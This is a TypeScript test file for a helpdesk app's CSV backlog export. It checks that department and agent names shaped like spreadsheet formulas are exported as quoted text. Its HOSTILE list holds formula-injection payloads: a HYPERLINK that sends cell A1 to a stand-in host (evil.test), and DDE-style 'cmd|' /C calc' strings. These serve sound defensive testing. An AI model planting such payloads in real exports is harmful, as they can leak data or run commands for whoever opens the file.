import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { forEachDatabase } from '../support/databases.ts';
import { demoDeskApp, type Caller } from '../support/desk-app.ts';

/*
 * CSV exports over HTTP never hand a spreadsheet a formula: a department or agent named like one
 * (`=`, `+`, `-`, `@`, a tab or a carriage return first) is exported as text, behind a quote.
 * Ticket subjects are in no export; names are what reach the backlog report.
 */

const HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '=1+1'];
const PLAIN = ['Sales, "East"', 'Field service (CSV)'];
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the export ends with a line break');
  return rows;
}

forEachDatabase('CSV exports and spreadsheet formulas', (db) => {
  let app: FastifyInstance;
  let admin: Caller;
  let agent: Caller;

  before(async () => {
    const desk = await demoDeskApp(db());
    app = desk.app;
    admin = await desk.as('admin@northwind.test');
    agent = await desk.as('agent@acme.test');
    const acme = desk.catalog.snapshot().bySlug.get('acme')!.id;
    for (const [i, name] of [...HOSTILE, ...PLAIN].entries()) {
      const department = await admin({ method: 'POST', url: '/api/v1/departments', body: { tenantId: acme, name } });
      assert.equal(department.statusCode, 201, department.body);
      const person = await admin({ method: 'POST', url: '/api/v1/contacts', body: { tenant: 'acme', kind: 'agent', email: `csv${i}@acme.test`, name, roles: ['agent'] } });
      assert.equal(person.statusCode, 201, person.body);
      const ticket = await agent({ method: 'POST', url: '/api/v1/tickets', body: { subject: name, body: 'x', departmentId: department.json().id, assigneeId: person.json().id } });
      assert.equal(ticket.statusCode, 201, ticket.body);
    }
  });
  after(async () => {
    await app?.close();
  });

  for (const by of ['department', 'agent'] as const) {
    it(`neutralises formula-like ${by} names in the backlog export`, async () => {
      const res = await agent({ url: `/api/v1/reports/backlog?by=${by}&format=csv` });
      assert.equal(res.statusCode, 200, res.body);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.match(String(res.headers['content-disposition']), /^attachment; /);
      const rows = parseCsv(res.body);
      assert.deepEqual(rows[0], [by, 'label', 'open', 'pending', 'overdue', 'total']);
      const labels = rows.slice(1).map((r) => r[1]!);
      for (const name of HOSTILE) assert.ok(labels.includes(`'${name}`), `${JSON.stringify(name)} is exported as text: ${JSON.stringify(labels)}`);
      for (const name of PLAIN) assert.ok(labels.includes(name), `${JSON.stringify(name)} is exported unchanged`);
      for (const cell of rows.flat()) assert.doesNotMatch(cell, FORMULA_START, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
      const json = await agent({ url: `/api/v1/reports/backlog?by=${by}` });
      assert.ok((json.json().items as { label: string }[]).some((i) => i.label === HOSTILE[0]), 'JSON keeps the name as it is');
    });
  }
});
